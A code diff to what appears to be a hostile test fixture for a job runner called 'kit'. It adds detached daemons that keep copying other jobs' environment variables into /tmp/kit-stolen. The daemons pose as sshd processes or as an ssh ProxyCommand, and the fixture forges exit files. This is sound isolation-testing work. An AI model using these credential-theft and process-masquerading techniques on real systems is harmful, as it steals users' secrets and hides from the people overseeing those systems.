@@ -4,13 +4,17 @@
                               the container's init) that copies every job's variables it can read into
                               /tmp/kit-stolen; the rank on the primary (where the job's folder is) writes 0 into its
                               exit file and makes its pid file a FIFO; then they sleep
-  outlive.py JOBS_DIR daemon  the daemons alone, then sleep
+  outlive.py JOBS_DIR daemon  the daemons alone, then sleep: on every host four, each a way to look like what kit
+                              keeps: the plain one above; the same named as sshd's connection processes; a copy of
+                              sh at /tmp/sshd named /usr/sbin/sshd; the image's own ssh program, its ProxyCommand the
+                              copying loop (it waits for that "proxy" to answer, for ever)
   outlive.py JOBS_DIR fifo    the rank on the primary makes its exit file a FIFO and its output.log a link to
                               /dev/zero; then they sleep
   outlive.py JOBS_DIR sleep   a few seconds of nothing
 """
 
 import os
+import shutil
 import sys
 import time
 
@@ -18,14 +22,28 @@ folder, mode = os.path.join(sys.argv[1], os.environ["KIT_JOB"]), sys.argv[2]
 STEAL = "while :; do cat /run/kit/env/* >> /tmp/kit-stolen 2>/dev/null; sleep 0.2; done"
 
 
-def daemon() -> None:
+def detached(argv: list[str]) -> None:
+    """argv, with no KIT_JOB nor any other variable (`env -i`), in a session of its own, not this process's child."""
     child = os.fork()
     if child == 0:
         os.setsid()
         if os.fork() == 0:
-            os.execve("/bin/sh", ["kit-hostile-daemon", "-c", STEAL], {})
+            os.execve(argv[0], argv[1:], {})
         os._exit(0)
     os.waitpid(child, 0)
+
+
+def daemon() -> None:
+    detached(["/bin/sh", "kit-hostile-daemon", "-c", STEAL])
+
+
+def daemons() -> None:
+    daemon()
+    detached(["/bin/sh", "sshd: root@notty", "-c", STEAL + " # kit-hostile-daemon"])
+    shutil.copy("/bin/sh", "/tmp/sshd")
+    detached(["/tmp/sshd", "/usr/sbin/sshd", "-c", STEAL + " # kit-hostile-daemon"])
+    proxy = f"ProxyCommand=sh -c '{STEAL}' kit-hostile-daemon"
+    detached([shutil.which("ssh"), "ssh", "-F", "/dev/null", "-o", proxy, "-o", "BatchMode=yes", "kit-hostile-daemon.invalid"])
 
 
 def replace(name: str, make) -> None:
@@ -41,8 +59,10 @@ def replace(name: str, make) -> None:
 if mode == "sleep":
     time.sleep(8)
     sys.exit(0)
-if mode in ("forge", "daemon"):
+if mode == "forge":
     daemon()
+if mode == "daemon":
+    daemons()
 if os.path.isdir(folder) and mode == "forge":
     with open(os.path.join(folder, "exit"), "w") as f:
         f.write("0\n")
